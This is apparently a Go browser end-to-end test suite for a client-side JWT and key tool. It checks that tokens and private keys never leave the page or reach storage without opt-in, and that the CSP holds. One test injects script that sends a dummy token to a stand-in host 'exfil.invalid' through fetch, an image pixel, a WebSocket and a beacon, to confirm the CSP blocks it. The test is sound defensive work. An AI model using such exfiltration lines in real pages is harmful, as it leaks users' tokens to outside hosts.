//go:build browser

package e2e

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"

	"tokenlab/internal/server"
)

// Privacy (SECURITY.md): tokens and keys never leave the page. Two
// independent witnesses record requests: the recording proxy every browser
// request goes through (pages and workers), and the DevTools network events
// of the page, which also show request headers and bodies.

// netLog records the page's requests with their headers and bodies.
type netLog struct {
	mu   sync.Mutex
	reqs []string // method, URL, headers and body, one string per request
}

func recordNetwork(t *testing.T, p *Page) *netLog {
	t.Helper()
	l := &netLog{}
	if err := chromedp.Listen(p.Context(), func(ev any) {
		if e, ok := ev.(*network.EventRequestWillBeSent); ok {
			var b strings.Builder
			fmt.Fprintf(&b, "%s %s\n", e.Request.Method, e.Request.URL+e.Request.URLFragment)
			for k, v := range e.Request.Headers {
				fmt.Fprintf(&b, "%s: %v\n", k, v)
			}
			for _, entry := range e.Request.PostDataEntries {
				b.Write(entry.Bytes)
			}
			l.mu.Lock()
			l.reqs = append(l.reqs, b.String())
			l.mu.Unlock()
		}
	}); err != nil {
		t.Fatal(err)
	}
	if _, err := chromedp.Call(p.Context(), network.Enable, network.EnableParams{}); err != nil {
		t.Fatal(err)
	}
	return l
}

func (l *netLog) all() []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]string(nil), l.reqs...)
}

// ui helpers (independent of other test files) ------------------------------

// uiClick clicks a button through the DOM (the privacy tests are about
// what the page sends, not about pointer hit-testing during smooth scrolls).
func uiClick(p *Page, css string) {
	p.t.Helper()
	var ok bool
	mustDecode(p.t, p.Eval(fmt.Sprintf(`(() => { const el = document.querySelector(%q); if (!el || el.disabled) return false; el.click(); return true })()`, css)), &ok)
	if !ok {
		p.t.Fatalf("cannot click %s: missing or disabled", css)
	}
}

func uiWait(p *Page, what, cond string) {
	p.t.Helper()
	var ok bool
	mustDecode(p.t, p.Eval(fmt.Sprintf(`(async () => {
		const deadline = Date.now() + 30000;
		while (Date.now() < deadline) {
			try { if (%s) return true; } catch (e) {}
			await new Promise((r) => setTimeout(r, 25));
		}
		return false;
	})()`, cond)), &ok)
	if !ok {
		p.t.Fatalf("waiting for %s: never happened (%s)", what, cond)
	}
}

func uiString(p *Page, expr string) string {
	p.t.Helper()
	var s string
	mustDecode(p.t, p.Eval(expr), &s)
	return s
}

// uiSetValue sets a form field like typing would: value, then input and
// change events.
func uiSetValue(p *Page, css, value string) {
	p.t.Helper()
	p.Eval(fmt.Sprintf(`(() => {
		const el = document.querySelector(%q);
		el.value = %q;
		el.dispatchEvent(new InputEvent("input", { bubbles: true }));
		el.dispatchEvent(new Event("change", { bubbles: true }));
		return true;
	})()`, css, value))
}

// storageDump is everything the page keeps in the browser: local and
// session storage, cookies, IndexedDB database names and Cache Storage
// request URLs.
const storageDump = `(async () => {
	const out = [];
	for (const s of [localStorage, sessionStorage]) for (let i = 0; i < s.length; i++) out.push(s.key(i) + "=" + s.getItem(s.key(i)));
	out.push("cookie=" + document.cookie);
	if (indexedDB.databases) for (const db of await indexedDB.databases()) out.push("idb=" + db.name);
	if (self.caches) for (const name of await caches.keys()) for (const req of await (await caches.open(name)).keys()) out.push("cache=" + req.url);
	return out.join("\n");
})()`

// secretsOf returns the strings that must never leave the page or reach
// storage: every segment of each token, and the private members of a JWK.
func secretsOf(t *testing.T, tokens []string, privateJWK string) map[string]string {
	t.Helper()
	s := map[string]string{}
	for i, tok := range tokens {
		for j, seg := range strings.Split(tok, ".") {
			if len(seg) >= 16 {
				s[fmt.Sprintf("token %d segment %d", i+1, j+1)] = seg
			}
		}
	}
	var jwk map[string]any
	if err := json.Unmarshal([]byte(privateJWK), &jwk); err != nil {
		t.Fatalf("the private JWK shown is not JSON: %v (%.200s)", err, privateJWK)
	}
	for _, member := range []string{"d", "p", "q", "dp", "dq", "qi", "k"} {
		if v, ok := jwk[member].(string); ok && len(v) >= 16 {
			s["private JWK member "+member] = v
		}
	}
	if len(s) == 0 {
		t.Fatal("found no secrets to look for")
	}
	return s
}

// TestPrivacyNothingLeavesThePage walks a user through key generation,
// minting, inspecting and verifying, then checks both witnesses: every
// request went to the tokenlab origin with GET, and none carried a token
// or private key material in its URL, headers or body.
func TestPrivacyNothingLeavesThePage(t *testing.T) {
	p := NewPage(t)
	nl := recordNetwork(t, p)
	p.Open("/")

	uiClick(p, "#keygen-button")
	uiWait(p, "a generated key", `document.querySelector("#key-private-jwk").textContent.includes('"d"')`)
	privateJWK := uiString(p, `document.querySelector("#key-private-jwk").textContent`)
	uiClick(p, "#mint-button")
	uiWait(p, "minted tokens", `document.querySelectorAll("#minted tl-token-card").length >= 2`)
	uiClick(p, `#minted tl-token-card[kind=id_token] button[data-to=inspect]`)
	uiWait(p, "the inspector", `document.querySelector("#kind-summary .kind-badge")`)
	uiClick(p, `#minted tl-token-card[kind=access_token] button[data-to=verify]`)
	uiWait(p, "a verdict", `!document.querySelector("#verify-result").hidden && document.querySelector("#verdict").textContent !== ""`)
	var tokens []string
	mustDecode(t, p.Eval(`[...document.querySelectorAll("#minted tl-token-card")].map((c) => c.getAttribute("token"))`), &tokens)

	// An HMAC key too: its secret must not leave either.
	uiSetValue(p, "#keygen-alg", "HS256")
	uiClick(p, "#keygen-button")
	uiWait(p, "an HMAC key", `document.querySelector("#key-private-jwk").textContent.includes('"k"')`)
	hmacJWK := uiString(p, `document.querySelector("#key-private-jwk").textContent`)
	uiClick(p, "#mint-button")
	uiWait(p, "HS256 tokens", `[...document.querySelectorAll("#minted tl-token-card")].some((c) => c.getAttribute("token")?.startsWith("eyJhbGciOiJIUzI1Ni"))`)
	var hsTokens []string
	mustDecode(t, p.Eval(`[...document.querySelectorAll("#minted tl-token-card")].map((c) => c.getAttribute("token"))`), &hsTokens)

	// And the API directly, for what the page may not do yet.
	var key struct {
		PrivateJWK json.RawMessage `json:"privateJwk"`
	}
	p.MustCall(&key, "generateKey", map[string]any{"alg": "EdDSA"})
	var minted struct {
		Token string `json:"token"`
	}
	p.MustCall(&minted, "mint", map[string]any{"kind": "access_token", "key": key.PrivateJWK})
	p.MustCall(nil, "verify", minted.Token, map[string]any{"key": key.PrivateJWK})
	p.MustCall(nil, "explain", minted.Token)

	secrets := secretsOf(t, append(tokens, minted.Token), privateJWK)
	for k, v := range secretsOf(t, hsTokens, hmacJWK) {
		secrets["HMAC "+k] = v
	}
	for k, v := range secretsOf(t, nil, string(key.PrivateJWK)) {
		secrets["EdDSA "+k] = v
	}

	proxied := p.Requests()
	if len(proxied) == 0 {
		t.Fatal("the proxy recorded no request: the witness is not working")
	}
	for _, r := range proxied {
		if r.BrowserInternal() {
			continue
		}
		if r.Foreign || p.foreign(r.URL) {
			t.Errorf("a request left the origin: %s %s", r.Method, r.URL)
		}
		if r.Method != http.MethodGet && r.Method != http.MethodHead {
			t.Errorf("a %s request: the page only ever reads static files (%s)", r.Method, r.URL)
		}
		for name, secret := range secrets {
			if strings.Contains(r.URL, secret) {
				t.Errorf("request %s carries %s", r.URL, name)
			}
		}
	}
	pageReqs := nl.all()
	if len(pageReqs) == 0 {
		t.Fatal("DevTools recorded no request: the witness is not working")
	}
	for _, r := range pageReqs {
		for name, secret := range secrets {
			if strings.Contains(r, secret) {
				t.Errorf("a request carries %s:\n%.300s", name, r)
			}
		}
	}
	t.Logf("%d proxied requests, %d page requests, %d secrets looked for", len(proxied), len(pageReqs), len(secrets))
}

// TestPrivacyCSPForbidsOtherOrigins checks the served policy and that the
// browser enforces it: a script in the page that tries to send data to
// another origin is blocked before any request is made.
func TestPrivacyCSPForbidsOtherOrigins(t *testing.T) {
	resp, err := http.Get(env.base + "/")
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	csp := resp.Header.Get("Content-Security-Policy")
	if csp != server.CSPMain {
		t.Errorf("the page's CSP = %q, want %q", csp, server.CSPMain)
	}
	for _, want := range []string{"default-src 'self'", "script-src 'self' 'wasm-unsafe-eval'", "img-src 'self' data:", "object-src 'none'", "base-uri 'none'", "form-action 'none'"} {
		if !strings.Contains(csp, want) {
			t.Errorf("the page's CSP lacks %q", want)
		}
	}
	for _, bad := range []string{"'unsafe-inline'", "'unsafe-eval'", "*.", "http:"} {
		if strings.Contains(csp, bad) {
			t.Errorf("the page's CSP allows %q", bad)
		}
	}

	p := NewPage(t)
	p.AllowConsoleErrors() // the blocked attempts are logged, as they should be
	p.Open("/")
	var blocked []string
	mustDecode(t, p.Eval(`(async () => {
		const violations = [];
		document.addEventListener("securitypolicyviolation", (e) => violations.push(e.effectiveDirective + " " + e.blockedURI));
		const token = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJsZWFrIn0.c2ln";
		try { await fetch("http://exfil.invalid/?t=" + token); } catch {}
		try { await fetch("http://127.0.0.2:9/?t=" + token); } catch {}
		const img = new Image(); img.src = "http://exfil.invalid/pixel.gif?t=" + token;
		try { new WebSocket("ws://exfil.invalid/"); } catch {}
		navigator.sendBeacon?.("http://exfil.invalid/beacon", token);
		await new Promise((r) => setTimeout(r, 500));
		return violations;
	})()`), &blocked)
	for _, directive := range []string{"connect-src http://exfil.invalid", "connect-src http://127.0.0.2:9", "img-src http://exfil.invalid"} {
		found := false
		for _, v := range blocked {
			if strings.HasPrefix(v, directive) {
				found = true
			}
		}
		if !found {
			t.Errorf("no CSP violation for %s; violations: %v", directive, blocked)
		}
	}
	for _, r := range p.Requests() {
		if strings.Contains(r.URL, "exfil.invalid") || strings.Contains(r.URL, "127.0.0.2") {
			t.Errorf("the CSP did not stop %s %s", r.Method, r.URL)
		}
	}
}

// TestPrivacyStorageHoldsNoPrivateKeyUnlessOptedIn generates a key, mints
// and verifies, and scans every browser store for private key material;
// then opts in (the private key is kept) and out again (it is gone).
func TestPrivacyStorageHoldsNoPrivateKeyUnlessOptedIn(t *testing.T) {
	p := NewPage(t)
	p.Open("/")
	uiClick(p, "#keygen-button")
	uiWait(p, "a generated key", `document.querySelector("#key-private-jwk").textContent.includes('"d"')`)
	privateJWK := uiString(p, `document.querySelector("#key-private-jwk").textContent`)
	uiClick(p, "#mint-button")
	uiWait(p, "minted tokens", `document.querySelectorAll("#minted tl-token-card").length >= 2`)
	uiClick(p, `#minted tl-token-card[kind=id_token] button[data-to=verify]`)
	uiWait(p, "a verdict", `!document.querySelector("#verify-result").hidden`)
	if uiString(p, `String(document.querySelector("#remember-private").checked)`) != "false" {
		t.Fatal("remembering the private key is on by default")
	}
	p.Eval(`new Promise((r) => setTimeout(() => r(true), 400))`) // the store saves after 250 ms
	private := secretsOf(t, nil, privateJWK)

	stored := uiString(p, storageDump)
	if !strings.Contains(stored, "tokenlab") {
		t.Fatalf("nothing was saved at all, so this test proves nothing: %.200s", stored)
	}
	for name, v := range private {
		if strings.Contains(stored, v) {
			t.Errorf("browser storage holds the %s without opting in", name)
		}
	}

	// Opt in: the private key is kept.
	uiClick(p, "#remember-private")
	p.Eval(`new Promise((r) => setTimeout(() => r(true), 400))`)
	if stored := uiString(p, storageDump); !strings.Contains(stored, private["private JWK member d"]) {
		t.Error("after opting in, the private key is not saved")
	}
	// Opt out: it is gone again.
	uiClick(p, "#remember-private")
	p.Eval(`new Promise((r) => setTimeout(() => r(true), 400))`)
	stored = uiString(p, storageDump)
	for name, v := range private {
		if strings.Contains(stored, v) {
			t.Errorf("after opting out, browser storage still holds the %s", name)
		}
	}
}

// TestPrivacyPastedVerifierKeyIsNotStored: a secret or private key pasted
// into the verifier's key field stays out of storage and share state unless
// the user opts in; a public key pasted there is kept.
func TestPrivacyPastedVerifierKeyIsNotStored(t *testing.T) {
	p := NewPage(t)
	p.Open("/")
	uiClick(p, `input[name=verify-key-source][value=pasted]`)
	var rsa struct {
		PrivatePEM string `json:"privatePem"`
		PublicPEM  string `json:"publicPem"`
	}
	p.MustCall(&rsa, "generateKey", map[string]any{"alg": "RS256"})
	privateBody := strings.Split(strings.TrimSpace(rsa.PrivatePEM), "\n")[2]
	publicBody := strings.Split(strings.TrimSpace(rsa.PublicPEM), "\n")[2]
	tests := []struct {
		name, text, marker string
		kept               bool
	}{
		{"HMAC secret", "correct-horse-battery-staple-0123456789", "correct-horse-battery-staple-0123456789", false},
		{"private PEM", rsa.PrivatePEM, privateBody, false},
		{"oct JWK", `{"kty":"oct","k":"c2VjcmV0LXNlY3JldC1zZWNyZXQtc2VjcmV0LXNlY3JldA"}`, "c2VjcmV0LXNlY3JldC1zZWNyZXQtc2VjcmV0LXNlY3JldA", false},
		{"public PEM", rsa.PublicPEM, publicBody, true},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			p := p.For(t)
			uiSetValue(p, "#verify-key", tc.text)
			p.Eval(`new Promise((r) => setTimeout(() => r(true), 500))`) // the store saves after 250 ms
			stored := uiString(p, storageDump)
			if strings.Contains(stored, tc.marker) != tc.kept {
				t.Errorf("stored %v, want %v (storage: %.300s)", !tc.kept, tc.kept, stored)
			}
		})
	}
}
